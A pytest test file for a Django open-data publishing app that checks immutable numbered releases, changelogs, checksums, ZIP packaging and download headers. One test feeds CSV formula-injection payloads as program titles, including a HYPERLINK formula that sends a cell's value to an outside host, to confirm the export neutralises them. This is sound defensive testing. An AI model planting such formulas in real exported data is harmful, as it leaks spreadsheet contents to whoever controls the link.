"""Open-data releases: numbered, immutable, with a changelog against the previous one."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.urls import reverse

from observatorio.programs import actions
from observatorio.programs.models import Program
from observatorio.publications.models import ImmutableError, Release, ReleaseFile
from observatorio.publications.releases import (
    NothingChanged,
    changelog,
    programs_snapshot,
    publish_release,
)
from observatorio.published.opendata.datasets import DATASETS

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "excel.csv", "json", "xlsx")
EXPECTED_FILES = {f"{slug}.{ext}" for slug in DATASETS for ext in FORMATS} | {
    "datapackage.json",
    "manifest.json",
    "SHA256SUMS",
    "datos.zip",
}


def _files(release: Release) -> dict[str, tuple[str, bytes]]:
    return {f.name: (f.sha256, bytes(f.content)) for f in release.files.all()}


def test_changelog_lists_added_corrected_and_withdrawn():
    before = {
        1: {"id": 1, "titulo": "A", "resultados": "x", "url": "http://a/1"},
        2: {"id": 2, "titulo": "B", "resultados": "y", "url": "http://a/2"},
    }
    after = {
        1: {"id": 1, "titulo": "A", "resultados": "x corregido", "url": "http://b/1", "cifras": 0},
        3: {"id": 3, "titulo": "C", "resultados": "z", "url": "http://b/3", "cifras": 0},
    }
    changes = changelog(before, after)
    assert [p["id"] for p in changes["added"]] == [3]
    assert [p["id"] for p in changes["withdrawn"]] == [2]
    # The address of the page is not a correction of the program.
    assert changes["corrected"] == [
        {
            "id": 1,
            "cycle": None,
            "section": None,
            "objective": None,
            "number": None,
            "title": "A",
            "actor": None,
            "fields": ["resultados"],  # a column new since the previous release is no correction
        }
    ]


def test_a_snapshot_with_the_first_english_column_names_compares_column_by_column():
    old = {"programs": [{"id": 1, "title": "A", "results": "x", "state_code": "07"}]}
    new = {"programs": [{"id": 1, "titulo": "A", "resultados": "y", "entidad_clave": "07"}]}
    previous = programs_snapshot(json.dumps(old).encode())
    current = programs_snapshot(json.dumps(new).encode())
    assert previous == current | {1: {**current[1], "resultados": "x"}}
    changes = changelog(previous, current)
    assert [(p["title"], p["fields"]) for p in changes["corrected"]] == [("A", ["resultados"])]


def test_a_correction_makes_a_new_release_and_leaves_the_old_one_byte_identical(
    real_data, db, cast
):
    reviewer = cast("reviewer")
    first = publish_release(by=reviewer, note="Primera")
    assert first.number == 1
    original = _files(first)
    assert set(original) == EXPECTED_FILES
    assert first.changelog["previous"] is None
    assert len(first.changelog["added"]) == first.programs == Program.objects.published().count()

    # Nothing changed: refused, in Spanish.
    with pytest.raises(NothingChanged, match="no cambiaron"):
        publish_release(by=reviewer)

    # A correction of a published program, a withdrawal and a newly published report.
    corrected = Program.objects.published().order_by("pk").first()
    corrected.results = corrected.results + " Cifra corregida: 1,234 personas."
    corrected.save()
    withdrawn = Program.objects.published().order_by("-pk").first()
    actions.withdraw(withdrawn, reviewer, "Duplicado")
    added = Program.objects.create(
        cycle=corrected.cycle,
        section=corrected.section,
        objective=corrected.objective,
        title="Programa agregado después de la primera versión",
        actor=corrected.actor,
        description="Descripción.",
        results="Resultados.",
        status=Program.Status.APPROVED,
    )
    added.institutions.set(corrected.institutions.all())
    actions.publish(added, reviewer)

    second = publish_release(by=reviewer, note="Corrección")
    assert second.number == 2
    changes = second.changelog
    assert changes["previous"] == 1
    assert [(p["id"], p["fields"]) for p in changes["corrected"]] == [
        (corrected.pk, ["resultados"])
    ]
    assert [p["id"] for p in changes["withdrawn"]] == [withdrawn.pk]
    assert [p["id"] for p in changes["added"]] == [added.pk]
    assert "programas" in changes["datasets_changed"]
    assert "objetivos" not in changes["datasets_changed"]

    # Release 1 is byte-identical, stored hashes included, and matches its own bytes.
    first = Release.objects.get(number=1)
    assert _files(first) == original
    for sha, content in original.values():
        assert hashlib.sha256(content).hexdigest() == sha
    # The corrected text is in release 2 only.
    new_csv = bytes(second.files.get(name="programas.csv").content).decode()
    old_csv = original["programas.csv"][1].decode()
    assert "Cifra corregida" in new_csv and "Cifra corregida" not in old_csv

    # Release 1 refuses every change.
    with pytest.raises(ImmutableError):
        first.note = "otra"
        first.save()
    with pytest.raises(ImmutableError):
        first.delete()
    with pytest.raises(ImmutableError):
        Release.objects.filter(number=1).update(note="otra")
    with pytest.raises(ImmutableError):
        ReleaseFile.objects.filter(release=first).delete()
    stored = first.files.get(name="programas.csv")
    with pytest.raises(ImmutableError):
        stored.content = b"otra cosa"
        stored.save()
    # Even raw SQL is refused by the database.
    with pytest.raises(DatabaseError), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute(
                "UPDATE publications_releasefile SET sha256 = %s WHERE release_id = %s",
                ["0" * 64, first.pk],
            )
    with pytest.raises(DatabaseError), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM publications_release WHERE id = %s", [first.pk])
    assert _files(Release.objects.get(number=1)) == original


def test_release_files_are_valid_and_agree_with_each_other(real_data, db):
    release = publish_release()
    files = _files(release)
    rows = list(csv.DictReader(io.StringIO(files["programas.csv"][1].decode("utf-8-sig"))))
    data = json.loads(files["programas.json"][1])
    assert len(rows) == data["count"] == len(data["programs"]) == release.programs
    assert [int(r["id"]) for r in rows] == [p["id"] for p in data["programs"]]
    assert data["url"].endswith(reverse("publications:release-file", args=[1, "programas.json"]))
    package = json.loads(files["datapackage.json"][1])
    assert package["version"] == "1"
    assert [r["path"] for r in package["resources"]] == [f"{slug}.csv" for slug in DATASETS]
    assert files["programas.xlsx"][1][:2] == b"PK"
    assert release.cycles == [2022]


def test_release_csv_files_neutralise_formulas_but_not_negative_numbers(real_data, db):
    from observatorio.practices.models import PanoramaFigure

    model = Program.objects.published().order_by("pk").first()
    titles = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
    for number, title in enumerate(titles, start=90):
        Program.objects.create(
            cycle=model.cycle,
            section=model.section,
            objective=model.objective,
            state=model.state,
            number=number,
            title=title,
            actor=model.actor,
            status=Program.Status.PUBLISHED,
        )
    figure = PanoramaFigure.objects.order_by("pk").first()
    figure.value = -3.5
    figure.value_as_printed = "-3.5"
    figure.save()

    files = _files(publish_release())

    programs = list(csv.DictReader(io.StringIO(files["programas.csv"][1].decode("utf-8-sig"))))
    found = {row["titulo"] for row in programs}
    assert {f"'{title}" for title in titles} <= found and not set(titles) & found
    json_titles = {p["titulo"] for p in json.loads(files["programas.json"][1])["programs"]}
    assert set(titles) <= json_titles  # the JSON is exact
    panorama = csv.DictReader(io.StringIO(files["panorama.csv"][1].decode("utf-8-sig")))
    row = next(row for row in panorama if row["id"] == str(figure.pk))
    assert (row["valor"], row["valor_como_se_imprimio"]) == ("-3.5", "'-3.5")


def test_release_data_package_validates(real_data, db, tmp_path):
    frictionless = pytest.importorskip("frictionless")
    release = publish_release()
    for name, (_sha, content) in _files(release).items():
        (tmp_path / name).write_bytes(content)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_pages_and_downloads(real_data, db, client):
    response = client.get(reverse("publications:releases"))
    assert response.status_code == 200
    assert "Todavía no se ha publicado ninguna versión" in response.content.decode()
    release = publish_release(note="Versión de prueba")
    response = client.get(reverse("publications:releases"))
    assert "Versión de prueba" in response.content.decode()
    page = client.get(reverse("publications:release", args=[release.number]))
    assert page.status_code == 200
    assert "programas.csv" in page.content.decode()

    stored = release.files.get(name="programas.csv")
    url = reverse("publications:release-file", args=[release.number, "programas.csv"])
    response = client.get(url)
    assert response.status_code == 200
    assert response.content == bytes(stored.content)
    assert response["ETag"] == f'"{stored.sha256}"'
    assert response["Content-Type"].startswith("text/csv")
    assert "immutable" in response["Cache-Control"]
    again = client.get(url, HTTP_IF_NONE_MATCH=f'"{stored.sha256}"')
    assert again.status_code == 304
    assert client.get(url, HTTP_IF_NONE_MATCH='"otro"').status_code == 200

    assert client.get(reverse("publications:release", args=[99])).status_code == 404
    missing = reverse("publications:release-file", args=[release.number, "nada.csv"])
    assert client.get(missing).status_code == 404


def test_command_publishes_and_refuses_when_nothing_changed(real_data, db, cast):
    cast("reviewer")
    out = io.StringIO()
    call_command("publish_release", "--note", "Inicial", "--user", "reviewer", stdout=out)
    assert "Versión 1 publicada" in out.getvalue()
    assert Release.objects.get().created_by.username == "reviewer"
    with pytest.raises(CommandError, match="no cambiaron desde la versión 1"):
        call_command("publish_release", stdout=io.StringIO())
    call_command("publish_release", "--force", stdout=out)
    assert list(Release.objects.values_list("number", flat=True)) == [2, 1]
    with pytest.raises(CommandError, match="No existe el usuario"):
        call_command("publish_release", "--force", "--user", "nadie", stdout=io.StringIO())


def test_a_release_is_one_zip_with_its_manifest_and_checksums_that_match(
    real_data, db, client, tmp_path
):
    import zipfile

    release = publish_release(note="Con ZIP")
    stored = _files(release)
    page = client.get(reverse("publications:release", args=[release.number])).content.decode()
    url = reverse("publications:release-file", args=[release.number, "datos.zip"])
    assert f'href="{url}"' in page and "Descargar la versión completa (ZIP)" in page
    listing = client.get(reverse("publications:releases")).content.decode()
    assert f'href="{url}"' in listing
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].endswith('filename="observatorio-v1-datos.zip"')

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert archive.testzip() is None
    names = archive.namelist()
    assert all(name.startswith("observatorio-v1/") for name in names)
    inside = {name.removeprefix("observatorio-v1/"): archive.read(name) for name in names}
    # Every file of the release but the zip itself, byte for byte.
    assert set(inside) == EXPECTED_FILES - {"datos.zip"}
    for name, content in inside.items():
        assert content == stored[name][1], name

    manifest = json.loads(inside["manifest.json"])
    assert (manifest["release"], manifest["programs"], manifest["cycles"]) == (
        1,
        release.programs,
        [2022],
    )
    assert manifest["data_hash"] == release.data_hash
    listed = {entry["name"]: entry for entry in manifest["files"]}
    assert set(listed) == EXPECTED_FILES - {"datos.zip", "manifest.json", "SHA256SUMS"}
    for name, entry in listed.items():
        content = inside[name]
        assert entry["sha256"] == hashlib.sha256(content).hexdigest() == stored[name][0], name
        assert entry["size"] == len(content), name
    sums = dict(
        reversed(line.split("  ", 1)) for line in inside["SHA256SUMS"].decode().splitlines()
    )
    assert sums == {name: entry["sha256"] for name, entry in listed.items()}

    # Unzipped, the data package validates as it is.
    archive.extractall(tmp_path)
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(tmp_path / "observatorio-v1" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
